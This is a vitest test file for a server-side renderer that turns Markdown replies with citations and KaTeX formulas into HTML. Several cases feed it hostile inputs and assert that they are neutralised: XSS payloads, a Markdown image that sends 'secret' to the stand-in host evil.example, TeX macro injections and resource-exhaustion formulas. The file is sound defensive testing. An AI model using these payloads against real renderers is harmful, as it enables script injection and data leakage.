import { describe, expect, it } from "vitest";
import { renderReply } from "./render-reply.server";

const render = (content: string, citations = [{ fileId: "f1", page: 3, quote: "a & b" }]) =>
  renderReply({ content, citations }, "/app?fileId=f1#message-m1");

describe("renderReply", () => {
  it("renders Markdown", () => {
    expect(render("**Yes.**\n\n- one\n- two")).toContain("<strong>Yes.</strong>");
    expect(render("- one\n- two")).toMatch(/<ul>\s*<li>one<\/li>/);
  });

  it("links citation markers to their passages, and keeps markers without a citation as text", () => {
    const html = render("So it is [1], not [2].");
    expect(html).toContain(
      'href="/app/docs?fileId=f1&amp;quote=a+%26+b&amp;back=%2Fapp%3FfileId%3Df1%23message-m1&amp;page=3#quote"',
    );
    expect(html).toContain("not [2].");
  });

  it("leaves markers in code unchanged", () => {
    expect(render("`a[1]`")).toContain("<code>a[1]</code>");
  });

  it.each([
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    '<img src="https://evil.example" onerror="alert(1)">',
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "<iframe src='https://evil.example'></iframe>",
  ])("produces nothing that loads or runs: %s", (content) => {
    const html = render(content);
    expect(html).not.toMatch(/<(img|script|iframe|svg|style)\b/i);
    expect(html).not.toMatch(/<[^>]*\son\w+=/i);
    expect(html).not.toMatch(/href="javascript/i);
  });
});

describe("words from the learner's attempt", () => {
  const mark = (content: string, attempt: string) =>
    renderReply({ content, citations: [{ fileId: "f1", page: 3, quote: "a" }], attempt });

  it("are highlighted, except in code, links and formulas", () => {
    expect(mark("The **queen** lays [1] eggs, `eggs`.", "queen, EGGS")).toMatch(
      /^<p>The <strong><mark>queen<\/mark><\/strong> lays <a class="citation"[^>]*>1<\/a> <mark>eggs<\/mark>, <code>eggs<\/code>\.<\/p>$/,
    );
    expect(mark("[eggs](https://a.example)", "eggs")).not.toContain("<mark>");
    expect(mark("$eggs$", "eggs")).not.toContain("<mark>");
  });

  it("do not break character references", () => {
    expect(mark('a & b <i> "c"', "amp quot")).toBe("<p>a &amp; b &lt;i&gt; &quot;c&quot;</p>");
  });
});

describe("the reply to a seeded message", () => {
  it("is shown as plain text", () => {
    const content = "**Bold** $x$ [1]\n# <b>";
    expect(renderReply({ content, citations: [], seeded: true })).toBe(
      '<p class="whitespace-pre-wrap">**Bold** $x$ [1]\n# &lt;b&gt;</p>',
    );
  });
});

describe("formulas", () => {
  it.each(["$x_1$", "\\(x_1\\)", "$$x_1$$", "\\[x_1\\]", "| a |\n|---|\n| $x_1$ |"])(
    "become MathML: %s",
    (content) => {
      const html = render(content);
      expect(html).toContain("<msub><mi>x</mi><mn>1</mn></msub>");
      expect(html).not.toContain("<em>");
    },
  );

  it("do not include prices", () => {
    expect(render("It is $5 and $6.")).toBe("<p>It is $5 and $6.</p>");
  });

  it("are not rendered in code and links", () => {
    expect(render("`$x$`")).toContain("<code>$x$</code>");
    expect(render("[see $x$](https://example.com)")).toContain(">see $x$</a>");
    expect(render("    $x$ & $y$")).toContain("<code>$x$ &amp; $y$");
  });

  it("are not rendered in a link's address", () => {
    const html = render('[a](/b$x$c "t$y$")');
    expect(html).not.toContain("<math");
    expect(html).toMatch(/^<p><a [^<>]*>a<\/a><\/p>$/);
  });

  it("have the colour of the surrounding text", () => {
    expect(render("$\\color{red}x \\href{a}{b}$")).not.toContain("mathcolor");
  });

  it("are shown as code if they are invalid", () => {
    expect(render("$\\nosuch<b>$")).toContain("<code>\\nosuch&lt;b&gt;</code>");
  });

  it.each(["\\def\\a{x}\\a", "\\gdef\\a{x}", "\\newcommand{\\a}{x}", "\\let\\a=x"])(
    "are not rendered if they define macros: %s",
    (tex) => {
      expect(render(`$${tex}$`)).not.toContain("<math");
      expect(render("$\\left( \\defeq x \\right)$ and $\\leq$")).toContain("<mo>≤</mo>");
    },
  );

  it.each([
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\includegraphics{https://evil.example/a.png}$",
    "$\\htmlData{a=b}{x}$",
    "$\\htmlStyle{position:fixed}{x}$",
    '$\\text{<img src=x onerror="alert(1)">}$',
    "$\\text{</annotation></math><script>alert(1)</script>}$",
    '$$\\color{red" onload="alert(1)}x$$',
    "[$a$](javascript:alert(1))",
  ])("produce nothing that loads, links or runs: %s", (content) => {
    const html = render(content);
    expect(html).not.toMatch(/<(img|script|iframe|svg|style)\b/i);
    expect(html).not.toMatch(/<[^>]*\s(on\w+|style)=/i);
    expect(html).not.toMatch(/<[^>]*(href|src)="(javascript|https:\/\/evil)/i);
  });

  it.each([
    `$\\def\\a{\\a\\a}\\a$`,
    `$$\\def\\a{${"x".repeat(900)}}${"\\a".repeat(400)}$$`,
    `$$${"{".repeat(990)}x${"}".repeat(990)}$$`,
    `$$${"\\sqrt{".repeat(280)}x${"}".repeat(280)}$$`,
    `$$${"\\frac{".repeat(280)}$$`,
    `\\(${"\\left(".repeat(300)}\\)`,
    "$\\rule{99999em}{99999em}$",
    "$x$ ".repeat(2_000),
  ])("are rendered quickly, with short output: %#", (content) => {
    const begun = performance.now();
    const html = render(content);
    expect(performance.now() - begun).toBeLessThan(2_000);
    expect(html.length).toBeLessThan(800_000);
    expect(html).not.toMatch(/"\d{3,}(\.\d+)?em"/);
  });

  it("cannot be forged with the placeholder characters", () => {
    expect(render("\uE0000\uE001 $x$")).toMatch(/^<p>0 <span [^>]*><span class="katex">/);
  });
});
